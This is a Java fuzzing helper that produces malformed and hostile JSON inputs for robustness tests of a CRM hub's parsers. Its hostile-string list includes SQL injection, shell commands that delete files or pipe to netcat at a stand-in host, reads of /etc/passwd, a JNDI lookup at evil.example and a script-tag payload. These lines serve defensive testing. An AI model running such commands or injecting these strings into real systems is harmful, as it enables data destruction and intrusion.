package io.mt5crmhub.testsupport;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Random;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

/**
 * Hostile variants of a valid JSON document: broken syntax (truncated, bytes flipped, inserted or cut, invalid
 * UTF-8), values of the wrong JSON type, strings with SQL and shell metacharacters and odd Unicode (lone
 * surrogates, NUL, RTL marks, emoji, combining marks), numbers out of range, fields dropped, repeated, added or
 * re-cased, deep nesting, and now and then a huge value of 1 to 10 MB. Deterministic for a given {@link Random}.
 */
public final class JsonMutator {

    /** One hostile input: how it was made and its bytes (not necessarily UTF-8). */
    public record Mutant(String kind, byte[] bytes) {

        public String text() {
            return new String(bytes, StandardCharsets.UTF_8);
        }

        /** The kind and the first 1000 characters, with control characters and non-ASCII escaped. */
        public String describe() {
            String text = text();
            StringBuilder b = new StringBuilder(kind).append(" (").append(bytes.length).append(" bytes) ");
            for (int i = 0; i < Math.min(text.length(), 1000); i++) {
                char c = text.charAt(i);
                b.append(c >= 0x20 && c < 0x7f ? String.valueOf(c) : String.format("\\u%04x", (int) c));
            }
            return text.length() > 1000 ? b.append("...").toString() : b.toString();
        }
    }

    /** Strings that have hurt parsers, databases, shells and logs. */
    public static final List<String> HOSTILE_STRINGS = List.of(
            "'; DROP TABLE x; --", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM crm_deal WHERE 1=1", "Robert'); --",
            "$(rm -rf /)", "`rm -rf /`", "; rm -rf / | nc evil.example 1 & echo", "&& shutdown -h now", "| cat /etc/passwd",
            "../../../../etc/passwd", "%s%s%s%n%x", "${jndi:ldap://evil.example/a}", "{{hub.db.password}}", "#{1+1}",
            "<script>alert(1)</script>", "\u0000", "a\u0000b", "\ud800", "\udc00", "x\ud83dy", "\udfff\ud800",
            "\u202e\u202dlive1", "abc\u200f\u200e", "\ufeffTX", "\uffff\ufffe", "\ud83d\udcb8\ud83d\udcb0",
            "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67", "e\u0301\u0301\u0301\u0301\u0301", "Z\u0334\u0321a\u0337l\u0336g\u0337o",
            "\u0085\u2028\u2029", "\t\r\n", " ", "", "null", "true", "0", "-1", "\\", "\"", "\\u0000", "C:\\Windows\\system32",
            "\u00e9", "e\u0301", "\ud835\udd4f", "\u0661\u0662\u0663", "\uff15\uff10", "\u0e51\u0e52");

    /** Number tokens out of range or on an edge: too big, too small, negative zero, fractions, overflowing. */
    public static final List<String> HOSTILE_NUMBERS = List.of(
            "1e400", "-1e400", "1e-400", "-0", "-0.0", "0", "0.0", "1E+2147483648", "1e-2147483649", "9223372036854775807",
            "9223372036854775808", "-9223372036854775809", "18446744073709551617", "2147483647", "2147483648",
            "4294967298", "-1", "-2147483649", "1.5", "0.1", "1e308", "4.9e-324", "1e-7", "123456789012345678901234567890",
            "0.30000000000000004", "1000000000.01", "999999999.99", "1E9", "1e2", "12345678901234567.89",
            "-99999999999999999999.999999999");

    /** Tokens that are not numbers at all, or not JSON: sent bare. */
    private static final List<String> BAD_NUMBER_TOKENS = List.of("00012", "+1", ".5", "NaN", "Infinity", "-Infinity",
            "0x1F", "1.", "1e", "--1");

    /** Numbers written as strings, as the MT5 Web API does, including ones no parser should take. */
    private static final List<String> NUMBER_TEXTS = List.of("NaN", "Infinity", "-Infinity", "1,000.00", "1 000",
            " 12 ", "12abc", "", "0x10", "1e400", "-0", "1E+999999999", "1e-999999999", "9223372036854775808",
            "\u0661\u0662\u0663", "\uff15\uff10", "5e-1", "+5", ".5", "5.");

    private static final List<String> WRONG_TYPES = List.of("null", "true", "false", "[]", "{}", "[1]", "{\"a\":1}",
            "0", "\"\"", "\"x\"", "[[]]", "-1", "1.5", "[null]", "{\"\":null}");

    private static final List<String> SYNTAX_TOKENS = List.of("{", "}", "[", "]", ",", ":", "\"", "\\", "'", "/*", "//",
            "\u0000", "\n", "\r", "\t", "\\u", "\\ud800", "null", ",,", "::", "}{", "][", "\"\":");

    private static final byte[][] BAD_UTF8 = {
            {(byte) 0xC3}, {(byte) 0xFF}, {(byte) 0xFE}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            {(byte) 0xC0, (byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0x80},
            {(byte) 0xE2, (byte) 0x82}};

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String RAW = "__fuzz_raw__";
    private static final String KEY = "__fuzz_key__";
    public static final int MB = 1024 * 1024;

    private final Random random;
    private final double hugeRate;

    /**
     * @param hugeRate the share of mutants that carry a value of 1 to 10 MB (keep it small: each costs time)
     */
    public JsonMutator(Random random, double hugeRate) {
        this.random = random;
        this.hugeRate = hugeRate;
    }

    public Random random() {
        return random;
    }

    /** A hostile variant of {@code valid}, which must be a JSON object or array. */
    public Mutant mutate(String valid) {
        if (random.nextDouble() < hugeRate) {
            return huge(valid);
        }
        return switch (random.nextInt(17)) {
            case 0 -> truncate(valid);
            case 1 -> flipBytes(valid);
            case 2 -> insertToken(valid);
            case 3 -> cutSlice(valid);
            case 4 -> repeatSlice(valid);
            case 5 -> badUtf8(valid);
            case 6, 7 -> replaceValue(valid, "wrong-type", pick(WRONG_TYPES));
            case 8, 9 -> replaceValue(valid, "hostile-string", jsonString(hostileString()));
            case 10, 11 -> replaceValue(valid, "hostile-number", hostileNumber());
            case 12 -> dropField(valid);
            case 13 -> addField(valid);
            case 14 -> recaseField(valid);
            case 15 -> replaceValue(valid, "deep-nesting", nesting(1 + random.nextInt(random.nextBoolean() ? 300 : 5000)));
            default -> wholeDocument(valid);
        };
    }

    /** A hostile string, sometimes several glued together. */
    public String hostileString() {
        StringBuilder s = new StringBuilder(pick(HOSTILE_STRINGS));
        while (random.nextInt(3) == 0) {
            s.append(pick(HOSTILE_STRINGS));
        }
        return s.toString();
    }

    /** A hostile number: a bare token (in or out of JSON's grammar) or a number written as a string. */
    public String hostileNumber() {
        return switch (random.nextInt(4)) {
            case 0 -> pick(BAD_NUMBER_TOKENS);
            case 1 -> jsonString(random.nextBoolean() ? pick(NUMBER_TEXTS) : pick(HOSTILE_NUMBERS));
            case 2 -> "9".repeat(1 + random.nextInt(1500));
            default -> pick(HOSTILE_NUMBERS);
        };
    }

    public <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    /**
     * {@code s} as a JSON string literal. Lone surrogates and control characters are always escaped (they cannot be
     * written as UTF-8); other non-ASCII text is written as UTF-8 or escaped, at random.
     */
    public String jsonString(String s) {
        boolean escapeAll = random.nextBoolean();
        StringBuilder b = new StringBuilder(s.length() + 2).append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            boolean pair = Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1));
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20 || (Character.isSurrogate(c) && !pair) || (c > 0x7e && escapeAll)) {
                b.append(String.format("\\u%04x", (int) c));
                if (pair) {
                    b.append(String.format("\\u%04x", (int) s.charAt(++i)));
                }
            } else if (pair) {
                b.append(c).append(s.charAt(++i));
            } else {
                b.append(c);
            }
        }
        return b.append('"').toString();
    }

    // --- byte level ---------------------------------------------------------------------------------------------

    private Mutant truncate(String valid) {
        byte[] b = utf8(valid);
        return new Mutant("truncate", java.util.Arrays.copyOf(b, random.nextInt(b.length)));
    }

    private Mutant flipBytes(String valid) {
        byte[] b = utf8(valid);
        int n = 1 + random.nextInt(4);
        for (int i = 0; i < n; i++) {
            b[random.nextInt(b.length)] = (byte) random.nextInt(256);
        }
        return new Mutant("flip-bytes", b);
    }

    private Mutant insertToken(String valid) {
        byte[] token = random.nextInt(4) == 0 ? randomBytes(1 + random.nextInt(8)) : utf8(pick(SYNTAX_TOKENS));
        byte[] b = utf8(valid);
        return new Mutant("insert", insertAt(b, token, random.nextInt(b.length + 1)));
    }

    private Mutant cutSlice(String valid) {
        byte[] b = utf8(valid);
        int from = random.nextInt(b.length);
        int length = 1 + random.nextInt(Math.max(1, Math.min(40, b.length - from)));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(b, 0, from);
        out.write(b, from + length, b.length - from - length);
        return new Mutant("cut", out.toByteArray());
    }

    private Mutant repeatSlice(String valid) {
        byte[] b = utf8(valid);
        int from = random.nextInt(b.length);
        int length = 1 + random.nextInt(Math.max(1, Math.min(60, b.length - from)));
        byte[] slice = java.util.Arrays.copyOfRange(b, from, Math.min(b.length, from + length));
        return new Mutant("repeat", insertAt(b, slice, from));
    }

    private Mutant badUtf8(String valid) {
        // inside a string value when there is one, where a lenient decoder would hide it
        byte[] b = utf8(valid);
        int at = valid.indexOf(":\"");
        int position = at >= 0 && random.nextBoolean() ? utf8(valid.substring(0, at + 2)).length : random.nextInt(b.length);
        return new Mutant("bad-utf8", insertAt(b, BAD_UTF8[random.nextInt(BAD_UTF8.length)], position));
    }

    private static byte[] insertAt(byte[] into, byte[] token, int position) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(into.length + token.length);
        out.write(into, 0, position);
        out.write(token, 0, token.length);
        out.write(into, position, into.length - position);
        return out.toByteArray();
    }

    private byte[] randomBytes(int n) {
        byte[] b = new byte[n];
        random.nextBytes(b);
        return b;
    }

    // --- tree level ---------------------------------------------------------------------------------------------

    /** One place in the tree a value sits: a field of an object or an element of an array. */
    private record Slot(JsonNode parent, String field, int index) {

        void set(JsonNode value) {
            if (parent instanceof ObjectNode o) {
                o.set(field, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }
    }

    private Mutant replaceValue(String valid, String kind, String rawToken) {
        JsonNode root = tree(valid);
        List<Slot> slots = slots(root);
        if (slots.isEmpty()) {
            return new Mutant(kind, utf8(rawToken));
        }
        Slot slot = slots.get(random.nextInt(slots.size()));
        slot.set(TextNode.valueOf(RAW));
        return new Mutant(kind + (slot.field() == null ? "" : " " + slot.field()),
                utf8(write(root).replace('"' + RAW + '"', rawToken)));
    }

    private Mutant dropField(String valid) {
        JsonNode root = tree(valid);
        List<Slot> fields = slots(root).stream().filter(s -> s.field() != null).toList();
        if (fields.isEmpty()) {
            return wholeDocument(valid);
        }
        Slot slot = fields.get(random.nextInt(fields.size()));
        ((ObjectNode) slot.parent()).remove(slot.field());
        return new Mutant("drop " + slot.field(), utf8(write(root)));
    }

    /** A field added: unknown, hostile, or an existing one given a second time (which a tree cannot hold). */
    private Mutant addField(String valid) {
        JsonNode root = tree(valid);
        List<ObjectNode> objects = objects(root);
        if (objects.isEmpty()) {
            return wholeDocument(valid);
        }
        ObjectNode target = objects.get(random.nextInt(objects.size()));
        List<String> names = new ArrayList<>();
        target.fieldNames().forEachRemaining(names::add);
        boolean repeat = !names.isEmpty() && random.nextBoolean();
        String name = repeat ? pick(names) : random.nextBoolean() ? "extra" : hostileString();
        target.set(KEY, TextNode.valueOf(RAW));
        String value = random.nextBoolean() ? pick(WRONG_TYPES) : jsonString(hostileString());
        String text = write(root).replace('"' + KEY + '"', jsonString(name)).replace('"' + RAW + '"', value);
        return new Mutant((repeat ? "repeat field " : "add field ") + name, utf8(text));
    }

    private Mutant recaseField(String valid) {
        JsonNode root = tree(valid);
        List<Slot> fields = slots(root).stream().filter(s -> s.field() != null).toList();
        if (fields.isEmpty()) {
            return wholeDocument(valid);
        }
        Slot slot = fields.get(random.nextInt(fields.size()));
        String name = slot.field();
        String other = random.nextBoolean() ? name.toUpperCase(Locale.ROOT) : name.toLowerCase(Locale.ROOT) + " ";
        String text = write(root).replace('"' + name + "\":", '"' + other + "\":");
        return new Mutant("recase " + name, utf8(text));
    }

    private Mutant wholeDocument(String valid) {
        String text = switch (random.nextInt(9)) {
            case 0 -> "[" + valid + "]";
            case 1 -> valid + valid;
            case 2 -> valid + " x";
            case 3 -> "";
            case 4 -> pick(WRONG_TYPES);
            case 5 -> jsonString(valid);
            case 6 -> "\ufeff" + valid;
            case 7 -> "<html><body>502 Bad Gateway</body></html>";
            default -> valid.replace("{", "{\n").replace(",", " ,\t");
        };
        return new Mutant("whole-document", utf8(text));
    }

    /** A value of 1 to 10 MB: a string, a number's digits, whitespace around the document, or deep nesting. */
    private Mutant huge(String valid) {
        int size = MB + random.nextInt(9 * MB);
        return switch (random.nextInt(4)) {
            case 0 -> replaceValue(valid, "huge-string", '"' + "A".repeat(size) + '"');
            case 1 -> replaceValue(valid, "huge-number", "9".repeat(size));
            case 2 -> new Mutant("huge-whitespace", utf8(" ".repeat(size) + valid + "\n".repeat(size / 10)));
            default -> replaceValue(valid, "huge-nesting", nesting(size / 2));
        };
    }

    private String nesting(int depth) {
        boolean arrays = random.nextBoolean();
        String open = arrays ? "[" : "{\"a\":";
        String close = arrays ? "]" : "}";
        return open.repeat(depth) + (random.nextInt(5) == 0 ? "" : "1" + close.repeat(depth));
    }

    private static List<Slot> slots(JsonNode node) {
        List<Slot> slots = new ArrayList<>();
        collect(node, slots);
        return slots;
    }

    private static void collect(JsonNode node, List<Slot> slots) {
        if (node instanceof ObjectNode o) {
            for (Iterator<String> names = o.fieldNames(); names.hasNext(); ) {
                String name = names.next();
                slots.add(new Slot(o, name, -1));
                collect(o.get(name), slots);
            }
        } else if (node instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                slots.add(new Slot(a, null, i));
                collect(a.get(i), slots);
            }
        }
    }

    private static List<ObjectNode> objects(JsonNode node) {
        List<ObjectNode> objects = new ArrayList<>();
        if (node instanceof ObjectNode o) {
            objects.add(o);
        }
        node.forEach(child -> objects.addAll(objects(child)));
        return objects;
    }

    private static JsonNode tree(String valid) {
        try {
            return JSON.readTree(valid);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException("the seed document is not JSON: " + valid, e);
        }
    }

    private static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    public static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
